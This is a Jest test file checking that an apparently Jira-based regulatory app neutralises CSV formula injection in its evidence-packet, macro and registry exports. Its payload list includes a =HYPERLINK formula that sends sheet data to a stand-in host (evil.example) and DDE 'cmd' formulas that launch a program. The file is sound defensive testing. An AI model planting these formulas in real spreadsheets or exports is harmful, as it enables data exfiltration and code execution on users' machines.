/**
 * CSV formula injection (OWASP "CSV Injection"). A quality engineer may rename their records
 * through Jira's REST API; an admin may name a product anything. A spreadsheet that opens an
 * export runs a cell starting with =, +, -, @, tab or CR as a formula (=HYPERLINK to exfiltrate
 * the sheet, DDE to run a program). Every CSV the app hands out (the evidence packet, the
 * macro's export, the registry export) must neutralise such cells, and the registry, which is
 * also imported, must come back from its own export unchanged.
 */
import { SITE_ACCOUNTS } from '../../sandbox/jira';
import { neutraliseCsvCell } from '../../src/domain/csv-safety';
import { createHash } from 'node:crypto';
import { parseCsvRecords, registryToCsv } from '../../src/domain/registry-csv';
import { dataOf, startFaultSite } from '../faults/harness';
import type { FaultSite } from '../faults/harness';

jest.setTimeout(120_000);

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
const PAYLOADS = [
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

const RITA: string = SITE_ACCOUNTS.regulatory;
const QUINN: string = SITE_ACCOUNTS.quality;
const ADMIN: string = SITE_ACCOUNTS.admin;
const MACRO = { type: 'macro', content: { id: '65537', type: 'page' }, space: { key: 'QARA' }, config: {} };
const ADMIN_PAGE = { type: 'jira:adminPage' };

let site: FaultSite;

beforeAll(async () => {
  site = await startFaultSite();
});
afterAll(async () => {
  await site.app.close();
  expect(site.contract.violations()).toEqual([]);
});

/** Every cell of a CSV file (BOM and all) that a spreadsheet would read as a formula. */
const formulaCells = (csv: string): string[] => {
  const { records, errors } = parseCsvRecords(csv);
  expect(errors).toEqual([]);
  return records.flatMap((r) => r.fields).filter((cell) => TRIGGERS.some((t) => cell.startsWith(t)));
};

const qmsKeys = () =>
  Object.values(site.app.jira.snapshot().issues)
    .filter((i) => i.key.startsWith('QMS-'))
    .map((i) => i.key);

describe('neutraliseCsvCell', () => {
  it.each(PAYLOADS)('prefixes a quote to %j', (payload) => expect(neutraliseCsvCell(payload)).toBe(`'${payload}`));
  it.each(['', 'Aspirin 100 mg', "'=already quoted", ' =leading space', 'NDA-012345', '2026-01-15T10:00:00.000Z'])(
    'leaves %j as it is',
    (value) => expect(neutraliseCsvCell(value)).toBe(value),
  );
});

describe('a quality engineer renames their records to formulas through Jira', () => {
  beforeAll(async () => {
    const keys = qmsKeys();
    for (const [i, key] of keys.entries()) {
      const summary = PAYLOADS[i % PAYLOADS.length] ?? '';
      const answer = await site.app.jira.handle({
        method: 'PUT',
        path: `/rest/api/3/issue/${key}`,
        body: { fields: { summary } },
        as: { kind: 'user', accountId: QUINN },
      });
      expect({ key, status: answer.status }).toEqual({ key, status: 204 });
    }
    await site.app.whenIdle();
  });

  it('the evidence packet CSV of every Submission holds no formula cell, and the summaries are there, quoted', async () => {
    const submissions = Object.values(site.app.jira.snapshot().issues).filter((i) => i.key.startsWith('RIM-'));
    let records = 0;
    for (const { key } of submissions) {
      const answer = await site.invoke({
        module: 'readiness-panel',
        key: 'readiness/export',
        payload: { format: 'csv' },
        extension: { type: 'jira:issuePanel', issue: { key }, project: { key: 'RIM' } },
        accountId: RITA,
      });
      if (!answer.ok) continue;
      expect({ key, formulas: formulaCells(answer.data.content) }).toEqual({ key, formulas: [] });
      records += PAYLOADS.filter((p) => answer.data.content.includes(`'${p.replace(/"/g, '""')}`)).length;
    }
    expect(records).toBeGreaterThan(0);
  });

  it('the macro CSV holds no formula cell, and its SHA-256 is of the file handed out', async () => {
    const answer = dataOf(
      await site.invoke({
        module: 'traceability-macro',
        key: 'traceability/export',
        payload: {},
        extension: MACRO,
        accountId: RITA,
      }),
    );
    expect(answer.parts).toBe(1);
    expect(formulaCells(answer.content)).toEqual([]);
    expect(PAYLOADS.some((p) => answer.content.includes(`'${p.replace(/"/g, '""')}`))).toBe(true);
    expect(answer.sha256).toBe(createHash('sha256').update(answer.content, 'utf8').digest('hex'));
  });
});

describe('an admin names registry entries like formulas', () => {
  const adminCall = <K extends 'admin/registry/import' | 'admin/registry/export' | 'admin/registry/get'>(
    key: K,
    payload: unknown,
  ) => site.invoke({ module: 'admin-page', key, payload, extension: ADMIN_PAGE, accountId: ADMIN });

  it('the export neutralises them, and importing the export gives the same registry back', async () => {
    const before = dataOf(await adminCall('admin/registry/get', {})).registry;
    const hostile = {
      ...before,
      products: before.products.map((p, i) => ({
        ...p,
        name:
          i === 0
            ? "'already quoted"
            : i === 1
              ? "'=quoted formula"
              : (PAYLOADS[i % PAYLOADS.length] ?? p.name).trim() || p.name,
      })),
      sites: before.sites.map((s) => ({ ...s, name: `-${s.name}` })),
      suppliers: before.suppliers.map((s) => ({ ...s, name: `@${s.name}` })),
      applications: before.applications.map((a) => ({ ...a, number: `+${a.number}` })),
    };
    // Import the hostile registry the only way an admin can: as CSV, each hostile cell written as a spreadsheet would save it.
    const imported = await adminCall('admin/registry/import', { csv: registryToCsv(hostile) });
    expect(imported).toEqual({ ok: true, data: { imported: expect.any(Object) } });
    expect(dataOf(await adminCall('admin/registry/get', {})).registry).toEqual(hostile);

    const exported = dataOf(await adminCall('admin/registry/export', {}));
    expect(formulaCells(exported.content)).toEqual([]);
    expect(exported.content).toContain("'-");
    expect(exported.content).toContain("'@");
    expect(exported.content).toContain("'+");

    const again = await adminCall('admin/registry/import', { csv: exported.content });
    expect(again.ok).toBe(true);
    expect(dataOf(await adminCall('admin/registry/get', {})).registry).toEqual(hostile);
  });
});
